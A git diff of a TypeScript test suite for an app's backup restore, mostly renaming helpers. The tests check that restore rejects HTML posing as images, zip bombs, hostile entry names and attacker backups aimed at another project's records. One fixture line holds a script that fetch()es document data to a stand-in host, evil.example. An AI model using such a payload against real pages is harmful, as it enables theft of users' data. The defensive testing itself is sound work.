@@ -5,7 +5,7 @@ import { strToU8, unzipSync, zipSync } from 'fflate';
 import { beforeEach, describe, expect, it } from 'vitest';
 import { BACKUP_CAPS, packBackup, sha256Hex, unpackBackup, type UnpackResult } from '../../src/core/backup/format';
 import { extract, readDirectory } from '../../src/core/backup/zip-read';
-import { collectProject, writeBackup } from '../../src/store/backup';
+import { writeBackup } from '../../src/store/backup';
 import { closeDB, getDB } from '../../src/store/db';
 import { addPanels, listPanels, setPanelResult } from '../../src/store/panels';
 import { createProject, listProjects, ProjectNameTakenError, renameProject } from '../../src/store/projects';
@@ -15,7 +15,8 @@ import { openIndex, loadChunks } from '../../src/store/vectors';
 import { addCharacter } from '../../src/store/characters';
 import { saveHints } from '../../src/store/hints';
 import { createPalette } from '../../src/store/palettes';
-import { png, snapshot } from './backup-helpers';
+import { png, snapshot, collectBytes } from './backup-helpers';
+import { storedBytes } from './stored-bytes';
 
 beforeEach(async () => {
   await closeDB();
@@ -64,7 +65,7 @@ const HTML = strToU8('<!doctype html><script>fetch("https://evil.example/?"+docu
 describe('restore validates every blob as an image', () => {
   it('refuses a backup with an HTML blob (typed text/html or image/png) and writes nothing', async () => {
     const p = await project('Safe', 1);
-    const zip = await packBackup(await collectProject(p.id));
+    const zip = await packBackup(await collectBytes(p.id));
     const before = await snapshot();
     for (const claimed of ['text/html', 'image/png']) {
       const evil = await rezip(zip, async (m, files) => {
@@ -82,7 +83,7 @@ describe('restore validates every blob as an image', () => {
 
   it('refuses oversized, truncated and undecodable images; stores the sniffed type, not the claimed one', async () => {
     const p = await project('Types', 2);
-    const zip = await packBackup(await collectProject(p.id));
+    const zip = await packBackup(await collectBytes(p.id));
     const swap = (bytes: Uint8Array, type = 'image/png') =>
       rezip(zip, async (m, files) => {
         const e = m.blobs[0];
@@ -119,8 +120,8 @@ describe('restore never touches records outside the restored project', () => {
       index,
     );
     const attacker = await project('Attacker', 20);
-    const ownContent = await collectProject(attacker.id);
-    const victimContent = await collectProject(victim.id);
+    const ownContent = await collectBytes(attacker.id);
+    const victimContent = await collectBytes(victim.id);
     // Rename every id of the attacker's backup to the victim's ids, project id new.
     const ids = new Map<string, string>();
     ownContent.panels.forEach((x, i) => ids.set(x.id, victimContent.panels[i].id));
@@ -190,7 +191,7 @@ describe('restore never touches records outside the restored project', () => {
     for (const [i, x] of panels.entries()) {
       expect(victimContent.panels.some((v) => v.id === x.id || v.originalBlobId === x.originalBlobId)).toBe(false);
       const original = ownContent.blobs.find((b) => b.id === ownContent.panels[i].originalBlobId)!;
-      expect(new Uint8Array((await getBlob(x.originalBlobId))!.bytes)).toEqual(new Uint8Array(original.bytes));
+      expect(new Uint8Array(await storedBytes(x.originalBlobId))).toEqual(new Uint8Array(original.bytes));
     }
     const [pal] = await (await getDB()).getAllFromIndex('palettes', 'projectId', restored.id);
     const hint = await (await getDB()).get('hints', panels[1].id);
@@ -204,7 +205,7 @@ describe('restore never touches records outside the restored project', () => {
 describe('hint palette refs', () => {
   it('follow the restored palette; a ref to a palette outside the backup is dropped, the hint kept', async () => {
     const p = await project('Refs', 90);
-    const zip = await rezip(await packBackup(await collectProject(p.id)), (m) => {
+    const zip = await rezip(await packBackup(await collectBytes(p.id)), (m) => {
       m.hints[0].hints.push({
         kind: 'point',
         x: 2,
@@ -230,7 +231,7 @@ describe('hint palette refs', () => {
 describe('project names are told apart', () => {
   it('restoring the same backup twice next to the default project gives three distinct names', async () => {
     const p = await project('My first strip', 30);
-    const r = await unpackBackup(await packBackup(await collectProject(p.id)));
+    const r = await unpackBackup(await packBackup(await collectBytes(p.id)));
     if (!r.ok) throw new Error(r.detail);
     const a = await writeBackup(r);
     const b = await writeBackup(r);
@@ -298,14 +299,14 @@ describe('the reference library travels in the backup', () => {
     const { p, index } = await library();
     const images = new Map(
       await Promise.all(
-        (await listReferences()).map(async (r) => [r.name, await sha256Hex((await getBlob(r.blobId))!.bytes)] as const),
+        (await listReferences()).map(async (r) => [r.name, await sha256Hex(await storedBytes(r.blobId))] as const),
       ),
     );
     const vectors = await vectorBytes();
     const tags = new Map((await listReferences()).map((r) => [r.name, r.tags]));
     // By name: the fixture's references share createdAt, so list order is the random ids' order.
     const probe = index.get((await listReferences()).find((x) => x.name === 'ref-1.png')!.id)!;
-    const zip = await packBackup(await collectProject(p.id));
+    const zip = await packBackup(await collectBytes(p.id));
     expect(Object.keys(unzipSync(zip)).filter((f) => f.startsWith('vectors/'))).toEqual(['vectors/0.f32']);
 
     await closeDB();
@@ -319,7 +320,7 @@ describe('the reference library travels in the backup', () => {
     // Same createdAt in the fixture; restored ids are fresh, so only the set (not the tie order) is fixed.
     expect(refs.map((x) => x.name).sort()).toEqual(['ref-0.png', 'ref-1.png', 'ref-2.png']);
     for (const x of refs) {
-      expect(await sha256Hex((await getBlob(x.blobId))!.bytes), x.name).toBe(images.get(x.name));
+      expect(await sha256Hex(await storedBytes(x.blobId)), x.name).toBe(images.get(x.name));
       expect((await getBlob(x.blobId))!.type).toBe('image/png');
       expect(x.tags).toEqual(tags.get(x.name));
       expect(x.modelId).toBe('clip/toon-clip');
@@ -346,7 +347,7 @@ describe('the reference library travels in the backup', () => {
 
   it('into a profile with its own library: existing chunks untouched, new ones appended, dedupe by image bytes', async () => {
     const { p } = await library();
-    const zip = await packBackup(await collectProject(p.id));
+    const zip = await packBackup(await collectBytes(p.id));
     await closeDB();
     globalThis.indexedDB = new IDBFactory();
     const index = await openIndex('clip/toon-clip', 8);
@@ -383,7 +384,7 @@ describe('the reference library travels in the backup', () => {
 
   it('malformed library records and vectors are backup-damaged', async () => {
     const { p } = await library();
-    const zip = await packBackup(await collectProject(p.id));
+    const zip = await packBackup(await collectBytes(p.id));
     const cases: [string, (m: Manifest, files: Record<string, Uint8Array>) => void | Promise<void>][] = [
       ['library not an object', (m) => void (m.library = [])],
       ['reference without a name', (m) => void delete m.library.references[0].name],
@@ -451,7 +452,7 @@ describe('decompression limits', () => {
 
   it('a bomb: declared sizes over the cap are refused unread; a lying size stops inflating at the declared size', async () => {
     const p = await project('Bomb', 70);
-    const good = await packBackup(await collectProject(p.id));
+    const good = await packBackup(await collectBytes(p.id));
     // 16 MiB of zeros deflates to ~16 KiB; its declared size is over a 1 MiB entry cap.
     const zeros = new Uint8Array(16 * 1024 * 1024);
     const bomb = zipSync({ ...unzipSync(good), 'junk.bin': [zeros, { level: 9 }] });
@@ -481,7 +482,7 @@ describe('decompression limits', () => {
 
   it('hostile entry names and an unlisted broken entry', async () => {
     const p = await project('Names', 80);
-    const good = await packBackup(await collectProject(p.id));
+    const good = await packBackup(await collectBytes(p.id));
     // A manifest naming a path that is not in the zip (e.g. `constructor`): damaged, not a crash.
     const r = await unpackBackup(await rezip(good, (m) => void (m.blobs[0].path = 'constructor')));
     expect(code(r)).toBe('backup-damaged');
